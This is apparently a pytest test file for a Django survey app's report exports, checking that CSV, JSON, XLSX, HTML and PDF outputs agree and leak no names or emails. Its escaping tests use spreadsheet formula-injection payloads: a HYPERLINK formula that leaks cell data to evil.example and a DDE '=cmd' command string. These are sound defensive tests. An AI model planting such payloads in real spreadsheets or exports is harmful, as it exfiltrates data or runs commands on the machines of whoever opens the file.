"""Every report format renders from one ReportData: the numbers agree with each other and with the
stored statistics; the PDF and XLSX open; no formula, email or name gets into any of them."""

from __future__ import annotations

import contextlib
import csv
import io
import json
import logging
import re
import zlib
from pathlib import Path

import pytest
from django.core.management import CommandError, call_command
from openpyxl import load_workbook

from surveys.models import Item, ItemStatistic, Panelist, Rating
from surveys.reports.formats import render
from surveys.reports.html import fmt_num, fmt_pct, render_report_html
from surveys.reports.safety import spreadsheet_cell
from surveys.reports.sections import verdict_label
from surveys.reports.xlsx import SHEETS
from surveys.selectors.reports import report_data
from tests.factories import answer_round, consented_panel
from tests.test_reports_data import HEADLINE, TwoRounds, build_two_rounds

INJECTION = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
CHECKED = ("n", "median", "q1", "q3", "iqr", "pct_agree", "cv", "verdict")


@pytest.fixture
def two_rounds(db: None) -> TwoRounds:
    return build_two_rounds(rationale=INJECTION)


def _pdf_pages(content: bytes) -> int:
    """Page count: pypdf when installed, else the page objects WeasyPrint writes (uncompressed)."""
    try:
        import pypdf
    except ImportError:  # page objects may sit in compressed object streams: inflate those too
        parts = [content]
        for stream in re.findall(rb"stream\r?\n(.*?)\r?\nendstream", content, re.S):
            with contextlib.suppress(zlib.error):
                parts.append(zlib.decompress(stream))
        return sum(len(re.findall(rb"/Type\s*/Page\b", part)) for part in parts)
    return len(pypdf.PdfReader(io.BytesIO(content)).pages)


def _pdf_text(content: bytes) -> str:
    pypdf = pytest.importorskip("pypdf", reason="pypdf extracts the PDF's text (test extra)")
    return "\n".join(page.extract_text() or "" for page in pypdf.PdfReader(io.BytesIO(content)).pages)


def _csv(content: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(content.decode("utf-8"))))


def _xlsx_cells(content: bytes) -> dict[str, list[tuple]]:  # type: ignore[type-arg]
    book = load_workbook(io.BytesIO(content), read_only=True)
    return {sheet.title: list(sheet.iter_rows(values_only=True)) for sheet in book.worksheets}


def _stored(study) -> list[tuple[tuple[int, str, str, str], dict]]:  # type: ignore[no-untyped-def,type-arg]
    rows = ItemStatistic.objects.filter(round__study=study).select_related("round", "round_item__item", "dimension")
    return [
        ((r.round.number, r.round_item.item.code, r.dimension.key, r.group), {f: getattr(r, f) for f in CHECKED})
        for r in rows
    ]


def _same(mine: object, stored: object) -> bool:
    if stored is None or stored == "":
        return mine in (None, "", "None")
    if isinstance(stored, str):
        return mine == stored
    return float(mine) == pytest.approx(float(stored))  # type: ignore[arg-type]


def test_numbers_agree_across_csv_json_xlsx_and_the_statistics_table(two_rounds: TwoRounds) -> None:
    data = report_data(two_rounds.study, with_ratings=True)
    in_csv: dict = {}  # type: ignore[type-arg]
    for row in _csv(render(data, "csv")):
        if row["statistic"] == "suppressed":  # a group withheld on an item: no figure to compare
            continue
        key = (int(row["round"]), row["item_code"], row["dimension"], row["group"])
        in_csv.setdefault(key, {})[row["statistic"]] = row["value"]
    in_json: dict = {}  # type: ignore[type-arg]
    for item in json.loads(render(data, "json"))["items"]:
        for row in item["statistics"]:
            in_json[(row["round"], row["item_code"], row["dimension"], row["group"])] = row
    sheet = _xlsx_cells(render(data, "xlsx"))["Statistics"]
    header = list(sheet[0])
    in_xlsx = {
        (r[0], r[1], r[3], r[4] or ""): dict(zip(header, r, strict=False))
        for r in sheet[1:]
        if not str(r[5]).startswith("suppressed")  # n holds the note of a withheld group
    }
    stored = _stored(two_rounds.study)
    assert len(stored) == len(in_json) == len(in_xlsx) == len(in_csv)
    for key, values in stored:
        for field, value in values.items():
            assert _same(in_csv[key].get(field), value), (key, field, "csv")
            assert _same(in_json[key][field], value), (key, field, "json")
            if field == "verdict":  # the XLSX speaks one vocabulary: the report's labels
                value = verdict_label(value, values["n"])
            assert _same(in_xlsx[key][field], value), (key, field, "xlsx")


def test_the_html_report_prints_the_stored_headline_figures(two_rounds: TwoRounds) -> None:
    html = render(report_data(two_rounds.study), "html").decode()
    for row in ItemStatistic.objects.filter(round__study=two_rounds.study, round_item__item__code="Q1", group=""):
        assert f"<td>{fmt_num(row.median)}</td>" in html
        assert f"<td>{fmt_pct(row.pct_agree)}</td>" in html


def test_the_pdf_renders_pages_holding_the_headline_question_and_the_lineage(two_rounds: TwoRounds) -> None:
    content = render(report_data(two_rounds.study), "pdf")
    assert content.startswith(b"%PDF")
    assert _pdf_pages(content) >= 3
    text = " ".join(_pdf_text(content).split())
    assert HEADLINE in text
    assert "C2 → C2r2" in text
    assert "Attrition" in text


def test_the_pdf_stylesheet_reaches_weasyprint_intact(two_rounds: TwoRounds, caplog: pytest.LogCaptureFixture) -> None:
    """Escaped quotes inside <style> once broke the print rules (fonts, page numbers) silently."""
    html = render_report_html(report_data(two_rounds.study))
    style = html[html.index("<style>") : html.index("</style>")]
    assert '"DejaVu Sans"' in style and "&quot;" not in style
    with caplog.at_level(logging.WARNING, logger="weasyprint"):
        render(report_data(two_rounds.study), "pdf")
    css_problems = [r.getMessage() for r in caplog.records if r.name.startswith("weasyprint")]
    assert css_problems == []


def test_the_standalone_html_carries_the_parts_stylesheet(two_rounds: TwoRounds) -> None:
    """The downloaded HTML file is read away from the site: the reasons, movement and checklist
    parts' rules (screen rules included) travel inside it, as the page links and the PDF inlines them."""
    from django.contrib.staticfiles import finders

    parts = Path(finders.find("surveys/report-parts.css")).read_text(encoding="utf-8")
    html = render(report_data(two_rounds.study), "html").decode()
    style = html[html.index("<style>") : html.index("</style>")]
    assert parts.strip() in style
    assert "@media screen and (max-width: 40rem)" in style  # the checklist's small-screen layout
    assert 'class="report-part' in html  # the parts it styles are in the file


def test_the_xlsx_opens_with_the_expected_sheets(two_rounds: TwoRounds) -> None:
    cells = _xlsx_cells(render(report_data(two_rounds.study, with_ratings=True), "xlsx"))
    assert (
        tuple(cells)
        == SHEETS
        == (
            "Summary",
            "Statistics",
            "Shifts",
            "Movement",
            "Attrition",
            "Ratings",
            "Rationales",
            "Suggestions",
            "Methods",
            "Checklist",
        )
    )
    ratings = cells["Ratings"]
    assert ratings[0][:6] == ("round", "item_code", "lineage_root_code", "dimension", "pseudonym", "group")
    assert len(ratings) - 1 == Rating.objects.filter(ballot__round__study=two_rounds.study).count()
    assert {row[4] for row in ratings[1:]} <= set(Panelist.objects.values_list("pseudonym", flat=True))


def test_attrition_and_lineage_show_in_every_format(two_rounds: TwoRounds) -> None:
    data = report_data(two_rounds.study, with_ratings=True)
    document = json.loads(render(data, "json"))
    assert [r["answered"] for r in document["panel"]["attrition"]] == [7, 5]
    assert next(i for i in document["items"] if i["root_code"] == "C2")["label"] == "C2 → C2r2"
    summary = _xlsx_cells(render(data, "xlsx"))["Summary"]
    assert any(row[:2] == ("C2r2", "C2 → C2r2") for row in summary)
    assert {"C2", "C2r2"} <= {r["item_code"] for r in _csv(render(data, "csv")) if r["lineage_root_code"] == "C2"}
    html = render(data, "html").decode()
    assert "C2 → C2r2" in html
    assert re.search(r"<td>2</td><td>7</td><td>5</td><td>71%</td><td>2</td>", html)


def test_formula_like_item_text_and_rationale_are_escaped_in_the_xlsx(db: None) -> None:
    study = build_two_rounds(rationale=INJECTION).study
    Item.objects.filter(study=study, code="R1").update(text=INJECTION)
    sheets = _xlsx_cells(render(report_data(study, with_ratings=True), "xlsx"))
    assert "'" + INJECTION in {c for row in sheets["Summary"] for c in row}  # the item's text
    assert "'" + INJECTION in {row[-1] for row in sheets["Rationales"]}  # the rationale
    cells = [c for rows in sheets.values() for row in rows for c in row if c is not None]
    assert not any(isinstance(c, str) and c.startswith(("=", "+", "@", "\t", "\r")) for c in cells)
    assert any(isinstance(c, float) and c < 0 for c in cells)  # negative numbers stay numbers


def test_a_formula_named_group_is_escaped_in_the_csv(db: None) -> None:
    from surveys.services.aggregation import round_aggregate
    from surveys.services.rounds import round_close, round_create, round_open
    from tests.test_reports_data import study_with_question

    study = study_with_question("formula-group")
    group = "=cmd|' /C calc'!A0"
    panel = consented_panel(study, [group] * 3 + ["B"] * 3)
    round_ = round_open(round=round_create(study=study))
    answer_round(round_, {p: {("C1", "agreement"): 7 - i % 3, ("C2", "agreement"): 2 + i} for i, p in enumerate(panel)})
    round_close(round=round_, aggregate=False)
    round_aggregate(round=round_)
    rows = _csv(render(report_data(study), "csv"))
    assert "'" + group in {r["group"] for r in rows}
    assert group not in {r["group"] for r in rows}
    negatives = [r["value"] for r in rows if r["value"].startswith(("-", "'-"))]
    assert all(not v.startswith("'") for v in negatives)


def test_the_escaping_function_escapes_text_only() -> None:
    assert spreadsheet_cell("=1+1") == "'=1+1"
    assert spreadsheet_cell("@SUM(A1)") == "'@SUM(A1)"
    assert spreadsheet_cell("+1") == "'+1"
    assert spreadsheet_cell("-1") == "'-1"
    assert spreadsheet_cell("\tx") == "'\tx"
    assert spreadsheet_cell("\rx") == "'\rx"
    assert spreadsheet_cell("plain") == "plain"
    assert spreadsheet_cell(-0.25) == -0.25
    assert spreadsheet_cell(float("nan")) is None


def test_no_email_or_name_appears_in_any_format(two_rounds: TwoRounds) -> None:
    secrets = [p.email for p in Panelist.objects.all()] + ["Dr Jane Secretname"]
    data = report_data(two_rounds.study, with_ratings=True)
    texts = {name: render(data, name).decode() for name in ("csv", "json", "html")}
    texts["xlsx"] = "\n".join(str(c) for rows in _xlsx_cells(render(data, "xlsx")).values() for r in rows for c in r)
    texts["pdf"] = _pdf_text(render(data, "pdf"))
    for name, text in texts.items():
        for secret in secrets:
            assert secret not in text, (name, secret)
    assert "Expert 001" in texts["xlsx"]  # raw ratings are there, under pseudonyms


def test_the_report_command_names_an_unknown_study(db: None) -> None:
    with pytest.raises(CommandError, match="No study with the slug 'nope'"):
        call_command("report", "nope", "--format", "csv")


def test_the_report_command_writes_each_format(two_rounds: TwoRounds, tmp_path: Path) -> None:
    for name in ("pdf", "xlsx", "csv", "json"):
        target = tmp_path / f"report.{name}"
        out = io.StringIO()
        call_command("report", two_rounds.study.slug, "--format", name, "--output", str(target), stdout=out)
        assert target.stat().st_size > 0
        assert str(target) in out.getvalue()
    assert (tmp_path / "report.pdf").read_bytes().startswith(b"%PDF")
    assert json.loads((tmp_path / "report.json").read_text())["study"]["slug"] == two_rounds.study.slug
